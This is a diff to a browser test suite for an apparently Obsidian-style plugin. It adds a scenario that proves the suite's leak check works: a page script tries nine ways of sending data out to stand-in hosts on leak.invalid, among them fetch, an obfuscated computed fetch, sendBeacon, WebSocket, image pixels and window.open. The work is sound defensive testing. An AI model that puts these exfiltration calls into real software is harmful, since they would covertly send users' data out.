@@ -5,7 +5,7 @@
 import { readFileSync } from "node:fs";
 import { join } from "node:path";
 import { setTimeout as delay } from "node:timers/promises";
-import { buildHarness, exampleVaultFiles, findBrowser, isolatedContext, launchBrowser, openHarnessPage, releasedFiles, ROOT, tracedTasks } from "./browser.mjs";
+import { buildHarness, exampleVaultFiles, findBrowser, isolatedContext, launchBrowser, leaks, openHarnessPage, releasedFiles, ROOT, tracedTasks } from "./browser.mjs";
 import { dashboardScenarios } from "./scenarios-dashboard.mjs";
 import { screenScenarios } from "./scenarios-screens.mjs";
 import { assert, assertEqual, headingsOf, NOW, SETTINGS, startSession } from "./steps.mjs";
@@ -38,6 +38,61 @@ scenario("main.js asks for no module but obsidian", async (env) => {
   const required = new Set([...mainJs.matchAll(/\brequire\(\s*["'`]([^"'`]+)["'`]\s*\)/g)].map((match) => match[1]));
   assertEqual([...required], ["obsidian"], "modules main.js requires");
   assert(!/\brequire\(\s*[^"'`\s)]/.test(mainJs), "main.js calls require with a computed name");
+});
+
+// The check every scenario ends with ("nothing leaves your vault") is only worth something if it bites: a
+// page script that tries each way out is caught by it, in a context of its own.
+scenario("the network and new-window check catches every way a page can send data out", async (env) => {
+  const probe = await isolatedContext(env.browser);
+  try {
+    const { page } = await openHarnessPage(probe.context);
+    const ways = {
+      fetch: "https://leak.invalid/fetch",
+      computedFetch: "https://leak.invalid/computed-fetch",
+      sendBeacon: "https://leak.invalid/beacon",
+      eventSource: "https://leak.invalid/events",
+      dynamicImport: "https://leak.invalid/module.js",
+      image: "https://leak.invalid/pixel.png",
+      xhr: "https://leak.invalid/xhr",
+      webSocket: "wss://leak.invalid/socket",
+      windowOpen: "https://leak.invalid/popup",
+    };
+    await page.evaluate(async (urls) => {
+      const attempts = [
+        () => fetch(urls.fetch, { method: "POST", body: "a note" }),
+        () => window["fe" + "tch"](urls.computedFetch),
+        () => navigator.sendBeacon(urls.sendBeacon, "a note"),
+        () => new EventSource(urls.eventSource),
+        // eslint-disable-next-line no-unsanitized/method -- the probe tries a remote module on purpose
+        () => import(urls.dynamicImport),
+        () => Object.assign(new Image(), { src: urls.image }),
+        () => {
+          const xhr = new XMLHttpRequest();
+          xhr.open("GET", urls.xhr);
+          xhr.send();
+        },
+        () => new WebSocket(urls.webSocket),
+        () => window.open(urls.windowOpen),
+      ];
+      for (const attempt of attempts) {
+        try {
+          await Promise.resolve(attempt()).catch(() => {});
+        } catch {
+          // A refused attempt is still an attempt: the routes saw it or the check below fails.
+        }
+      }
+    }, ways);
+    // Requests and windows are reported as the browser makes them: wait until every one has been seen (the
+    // scenario's own timeout ends a wait for one that never comes, and the scenario fails).
+    const missing = () => Object.entries(ways).filter(([, url]) => !probe.requests.includes(url)).map(([way]) => way);
+    while (missing().length > 0 || probe.windows.length < 2) await delay(50);
+    assertEqual(missing(), [], "ways out the check did not see");
+    const found = leaks(probe);
+    assert(found.some((line) => line.startsWith("network requests:")), "the check reports the requests");
+    assert(found.some((line) => line.startsWith("new windows:")), `the check reports the popup (windows: ${probe.windows.length})`);
+  } finally {
+    await probe.context.close();
+  }
 });
 
 scenario("loads the built plugin on the example vault", async (env) => {
@@ -164,7 +219,8 @@ scenario(`indexes a generated 10,000-note vault and opens the dashboard on it wi
 });
 
 async function runScenario(browser, { name, run }) {
-  const { context, requests } = await isolatedContext(browser);
+  const isolated = await isolatedContext(browser);
+  const { context } = isolated;
   const logs = [];
   try {
     const { page, problems } = await openHarnessPage(context);
@@ -181,7 +237,8 @@ async function runScenario(browser, { name, run }) {
     }
     await page.evaluate(() => window.harness.settle(2));
     if (problems.length > 0) throw new Error(problems.join("\n"));
-    if (requests.length > 0) throw new Error(`network requests: ${requests.join(", ")}`);
+    const found = leaks(isolated);
+    if (found.length > 0) throw new Error(found.join("\n"));
     return { ok: true, logs };
   } catch (error) {
     return { ok: false, logs, error: error instanceof Error ? error.message : String(error) };
